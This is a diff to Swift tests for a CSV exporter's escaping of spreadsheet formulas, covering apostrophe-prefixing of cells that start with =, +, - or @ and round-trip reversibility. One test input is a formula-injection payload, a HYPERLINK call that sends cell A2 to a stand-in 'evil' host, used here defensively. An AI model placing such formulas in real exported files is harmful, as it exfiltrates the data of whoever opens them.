@@ -62,14 +62,36 @@ import Testing
   @Test(arguments: [
     ("=1+1", "'=1+1"), ("+49", "'+49"), ("-x", "'-x"), ("@bob.test", "'@bob.test"), ("＝1", "'＝1"),
     (#"=HYPERLINK("https://evil/?"&A2,"x")"#, #""'=HYPERLINK(""https://evil/?""&A2,""x"")""#),
-    ("\t=1", "'\u{FFFD}=1"), ("\r=1", "'\u{FFFD}=1"), ("'=1", "''=1"), ("a=1", "a=1"),
-    ("bob.test", "bob.test"),
+    ("\t=1", "\u{FFFD}=1"), ("'=1", "''=1"), ("a=1", "a=1"), ("bob.test", "bob.test"),
+    ("a;=1+1", "a;'=1+1"), (";=1+1", ";'=1+1"), ("a|-1", "a|'-1"), ("a; @b", "a;' @b"), (" =1", "' =1"),
+    ("\u{A0}\u{3000}+1", "'\u{A0}\u{3000}+1"), ("a;'=1", "a;''=1"), (";;=1;=2", ";;'=1;'=2"),
+    ("a;b=1", "a;b=1"),
+    ("=;=", "'=;'="), ("| she/her", "| she/her"), ("=\u{301}1", "'=\u{301}1"),
   ])
   func formulaCellsAreEscaped(cell: String, defused: String) {
     #expect(lines([Row(text: cell)], .csv(raw: false)) == [defused + ",,,"])
-    let raw = defused.replacing("'", with: "", maxReplacements: 1)
     #expect(SpreadsheetFormula.undefused(SpreadsheetFormula.defused(cell)) == cell)
+    let clean = TerminalText.clean(cell)
+    let raw = clean.contains(",") ? "\"\(clean.replacing("\"", with: "\"\""))\"" : clean
     #expect(lines([Row(text: cell)], .csv(raw: true)) == [raw + ",,,"])
+  }
+
+  /// Quotes and line breaks as well, in texts that are kept for import.
+  @Test func defusingIsReversible() {
+    let parts = ["=", "'", "\"", ";", "|", "\t", "\n", "\r", " ", "a", "@", "\u{A0}", "\\", "\u{301}"]
+    for first in parts {
+      for second in parts {
+        for third in parts {
+          for fourth in parts {
+            let cell = first + second + third + fourth
+            let defused = SpreadsheetFormula.defused(cell)
+            #expect(
+              SpreadsheetFormula.undefused(defused).unicodeScalars.elementsEqual(cell.unicodeScalars),
+              "\(cell)")
+          }
+        }
+      }
+    }
   }
 
   @Test func numbersStayNumbersInCSV() {
